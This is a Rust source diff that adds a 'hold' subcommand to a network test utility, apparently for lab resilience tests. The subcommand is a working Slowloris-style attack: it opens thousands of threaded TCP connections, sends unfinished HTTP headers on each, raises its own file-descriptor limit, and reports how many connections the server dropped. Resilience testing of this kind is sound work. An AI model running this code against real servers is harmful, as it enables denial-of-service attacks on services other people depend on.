@@ -35,6 +35,25 @@ pub enum AgnhostCommand {
     Serve(ServeArgs),
     /// Probe HOST:PORT once; exit 0 if it answered, 1 on timeout, 2 if refused, 3 on error.
     Connect(ConnectArgs),
+    /// Open many TCP connections, send a partial HTTP request on each and hold them (the
+    /// descriptor-exhaustion attack of the lab tests).
+    Hold(HoldArgs),
+}
+
+#[derive(Debug, clap::Args)]
+pub struct HoldArgs {
+    /// HOST:PORT targets; connections are spread over them in turn.
+    #[arg(required = true)]
+    pub targets: Vec<String>,
+    /// Connections to attempt in all.
+    #[arg(long, default_value_t = 20_000)]
+    pub count: usize,
+    /// How long to hold them before exiting, e.g. 90s.
+    #[arg(long, default_value = "90s", value_parser = parse_duration)]
+    pub duration: Duration,
+    /// Threads opening connections.
+    #[arg(long, default_value_t = 64)]
+    pub threads: usize,
 }
 
 #[derive(Debug, clap::Args)]
@@ -114,6 +133,10 @@ pub fn run(cmd: AgnhostCommand) -> anyhow::Result<i32> {
     match cmd {
         AgnhostCommand::Serve(args) => {
             serve(args)?;
+            Ok(0)
+        }
+        AgnhostCommand::Hold(args) => {
+            hold(&args)?;
             Ok(0)
         }
         AgnhostCommand::Connect(args) => {
@@ -234,6 +257,112 @@ fn serve_udp(socket: UdpSocket, name: String) {
             let _ = socket.send_to(&reply, from);
         }
     }
+}
+
+/// Opens up to `count` connections (raising this process' descriptor limit to fit where it may), sends each a
+/// partial HTTP request (headers never finished), prints one summary line
+/// (`holding OPEN refused REFUSED timedout TIMEDOUT failed FAILED`), holds them for `duration`,
+/// then prints how many the server had closed (`closed-by-peer N of OPEN`).
+pub fn hold(args: &HoldArgs) -> Result<(), AgnhostError> {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let targets: Vec<SocketAddr> = args
+        .targets
+        .iter()
+        .map(|t| resolve(t))
+        .collect::<Result<_, _>>()?;
+    let want = (args.count + 1024) as libc::rlim_t;
+    let lim = libc::rlimit {
+        rlim_cur: want,
+        rlim_max: want,
+    };
+    // SAFETY: setrlimit reads a valid, initialised struct; a failure only leaves the old limit.
+    if unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &lim) } != 0 {
+        eprintln!(
+            "warning: cannot raise RLIMIT_NOFILE to {want}: {}",
+            std::io::Error::last_os_error()
+        );
+    }
+    // Workers stop after `count` attempts, when this process runs out of descriptors, or
+    // after 1,000 timed-out connects (the server is saturated: more would only take time).
+    let next = AtomicUsize::new(0);
+    let (refused, timed_out, failed) = (
+        AtomicUsize::new(0),
+        AtomicUsize::new(0),
+        AtomicUsize::new(0),
+    );
+    let stop = std::sync::atomic::AtomicBool::new(false);
+    let held: Vec<TcpStream> = std::thread::scope(|s| {
+        let workers: Vec<_> = (0..args.threads.max(1))
+            .map(|_| {
+                s.spawn(|| {
+                    let mut mine = Vec::new();
+                    loop {
+                        let i = next.fetch_add(1, Ordering::Relaxed);
+                        if i >= args.count || stop.load(Ordering::Relaxed) {
+                            break mine;
+                        }
+                        let addr = targets[i % targets.len()];
+                        match TcpStream::connect_timeout(&addr, Duration::from_millis(200)) {
+                            Ok(mut c) => {
+                                let _ = c.write_all(
+                                    b"GET /healthz HTTP/1.1\r\nHost: agent\r\nX-Slow: 1\r\n",
+                                );
+                                mine.push(c);
+                            }
+                            Err(e) => {
+                                let counter = match io_outcome(&e) {
+                                    Outcome::Refused => &refused,
+                                    Outcome::TimedOut => &timed_out,
+                                    _ => &failed,
+                                };
+                                let n = counter.fetch_add(1, Ordering::Relaxed) + 1;
+                                if e.raw_os_error() == Some(libc::EMFILE)
+                                    || (std::ptr::eq(counter, &timed_out) && n >= 1_000)
+                                {
+                                    stop.store(true, Ordering::Relaxed);
+                                }
+                            }
+                        }
+                    }
+                })
+            })
+            .collect();
+        workers
+            .into_iter()
+            .flat_map(|w| w.join().unwrap_or_default())
+            .collect()
+    });
+    println!(
+        "holding {} refused {} timedout {} failed {}",
+        held.len(),
+        refused.into_inner(),
+        timed_out.into_inner(),
+        failed.into_inner()
+    );
+    let _ = std::io::stdout().flush();
+    std::thread::sleep(args.duration);
+    // A connection the server closed reads EOF (or an error) at once.
+    let mut closed = 0;
+    let mut buf = [0u8; 4096];
+    for mut c in held.iter() {
+        let _ = c.set_nonblocking(true);
+        loop {
+            match c.read(&mut buf) {
+                Ok(0) => {
+                    closed += 1;
+                    break;
+                }
+                Ok(_) => continue,
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
+                Err(_) => {
+                    closed += 1;
+                    break;
+                }
+            }
+        }
+    }
+    println!("closed-by-peer {closed} of {}", held.len());
+    Ok(())
 }
 
 fn resolve(target: &str) -> Result<SocketAddr, AgnhostError> {
